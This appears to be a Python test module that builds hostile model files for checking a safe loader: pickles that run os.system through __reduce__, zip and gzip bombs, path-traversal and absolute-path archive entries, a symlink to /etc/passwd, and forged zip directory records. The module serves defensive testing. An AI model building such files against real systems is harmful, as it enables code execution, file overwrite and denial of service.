"""Zip files and tar archives that are bombs, lie about themselves, or lead out of themselves."""

import gzip
import io
import pickle
import struct
import tarfile
import zipfile

import numpy as np

from attacks.common import CONFIG, WEIGHTS, attack, good, shell
from published import Call, Name, Raw, Writer, dumps, new_file, old_file, opcodes


def zipped(folder, **options):
    writer = Writer(old=False)
    new_file(folder / "model.pt", writer.model(CONFIG, WEIGHTS), writer.storages, **options)


@attack
def os_system_in_a_zip_file(folder, canary):
    new_file(folder / "model.pt", Call(Name("os system"), (shell(canary),)))


@attack
def a_zip_bomb(folder, canary):
    new_file(folder / "model.pt", bytes(200 * 2**20), compression=zipfile.ZIP_DEFLATED)


@attack
def a_compressed_model(folder, canary):
    zipped(folder, compression=zipfile.ZIP_DEFLATED)


@attack
def a_zip_entry_that_leads_out(folder, canary):
    zipped(folder, extra=[(f"archive/../../{canary.name}", b"out")])


@attack
def a_zip_entry_with_a_whole_path(folder, canary):
    zipped(folder, extra=[(str(canary), b"out")])


@attack
def a_zip_key_that_leads_out(folder, canary):
    """The storage's key is a path; its entry is not in the archive, its file is on the disk."""
    canary.with_name("secret").write_bytes(WEIGHTS["output_bias"].tobytes())
    writer = Writer(old=False)
    bad = writer.tensor(WEIGHTS["output_bias"], key=f"../../{canary.parent}/secret")
    new_file(folder / "model.pt", writer.model(CONFIG, WEIGHTS, payload=bad), writer.storages)


@attack
def a_zip_file_with_a_directory_of_200000_entries(folder, canary):
    entry = struct.pack("<4s6H3L5H2L", b"PK\1\2", 20, 20, 0, 0, 0, 33, 0, 0, 0, 6, 0, 0, 0, 0, 0, 0)
    directory = b"".join(entry + b"%06d" % number for number in range(200_000))
    end = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, 65_535, 65_535, len(directory), 4, 0)
    (folder / "model.pt").write_bytes(b"PK\3\4" + directory + end)


@attack
def a_zip_entry_larger_than_the_file(folder, canary):
    zipped(folder)
    data = bytearray((folder / "model.pt").read_bytes())
    for name in (b"archive/data.pkl", b"archive/data/94068755973552"):
        place = data.rindex(name) - 46  # its entry in the directory
        data[place + 20 : place + 28] = struct.pack("<LL", 0x7FFF_0000, 0x7FFF_0000)
    (folder / "model.pt").write_bytes(data)


@attack
def fifteen_hundred_zip_entries_in_one_place(folder, canary):
    """Each is the same 20 MB, whose checksum has to be computed."""
    writer, large = Writer(old=False), np.zeros(5_000_000, np.float32)
    tensors = [writer.tensor(large[:0], key=str(number), size=large.size) for number in range(1500)]
    tensors = [Raw(opcodes(tensor.arguments[0].arguments[0])) for tensor in tensors]
    new_file(folder / "model.pt", tensors, [("0", large)])
    data = (folder / "model.pt").read_bytes()
    end = data.rindex(b"PK\5\6")
    count, size, start = struct.unpack("<HLL", data[end + 10 : end + 20])
    place = data.rindex(b"archive/data/0") - 46
    first = data[place : place + 60]
    more = b""
    for number in range(1, 1500):
        name = f"archive/data/{number}".encode()
        more += first[:28] + struct.pack("<H", len(name)) + first[30:46] + name
    ending = struct.pack("<4s4H2LH", b"PK\5\6", 0, 0, count + 1499, count + 1499, size + len(more), start, 0)
    (folder / "model.pt").write_bytes(data[:end] + more + ending)


@attack
def two_pickles_in_a_zip_file(folder, canary):
    zipped(folder, extra=[("other/data.pkl", dumps(Call(Name("os system"), (shell(canary),))))])


@attack
def a_zip_file_without_a_pickle(folder, canary):
    with zipfile.ZipFile(folder / "model.pt", "w") as archive:
        archive.writestr("archive/readme", b"hello")


def tarred(folder, *entries):
    with tarfile.open(folder / "model.tar.gz", "w:gz") as archive:
        for entry, data in entries:
            archive.addfile(entry, io.BytesIO(data))


@attack
def a_link_in_place_of_the_model(folder, canary):
    entry = tarfile.TarInfo("LakhNES/model.pt")
    entry.type, entry.linkname = tarfile.SYMTYPE, "/etc/passwd"
    tarred(folder, (entry, b""))


@attack
def an_archive_of_4_gigabytes(folder, canary):
    entry = tarfile.TarInfo("LakhNES/zeros")
    entry.size = 4 * 2**30
    with gzip.open(folder / "model.tar.gz", "wb") as file:
        file.write(entry.tobuf())
        file.write(bytes(2**20))


@attack
def an_archive_of_zeros(folder, canary):
    """A model of 300 MB in 300 kB."""
    entry = tarfile.TarInfo("LakhNES/model.pt")
    entry.size = 300 * 2**20
    with gzip.open(folder / "model.tar.gz", "wb", 1) as file:
        file.write(entry.tobuf())
        for _ in range(300):
            file.write(bytes(2**20))


@attack
def a_header_of_a_gigabyte(folder, canary):
    entry = tarfile.TarInfo("LakhNES/model.pt")
    entry.size, entry.type = 2**30, tarfile.XHDTYPE
    with gzip.open(folder / "model.tar.gz", "wb", 1) as file:
        file.write(entry.tobuf())
        for _ in range(64):
            file.write(bytes(2**20))


@attack
def an_archive_that_is_cut_off(folder, canary):
    entry = tarfile.TarInfo("LakhNES/model.pt")
    data = old_file(*good())
    entry.size = len(data)
    tarred(folder, (entry, data))
    whole = (folder / "model.tar.gz").read_bytes()
    (folder / "model.tar.gz").write_bytes(whole[: len(whole) // 2])


@attack
def a_hostile_model_in_an_archive(folder, canary):
    entry = tarfile.TarInfo("LakhNES/model.pt")
    data = pickle.dumps(_Shell(shell(canary)), protocol=2)
    entry.size = len(data)
    tarred(folder, (entry, data))


class _Shell:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        import os

        return os.system, (self.command,)
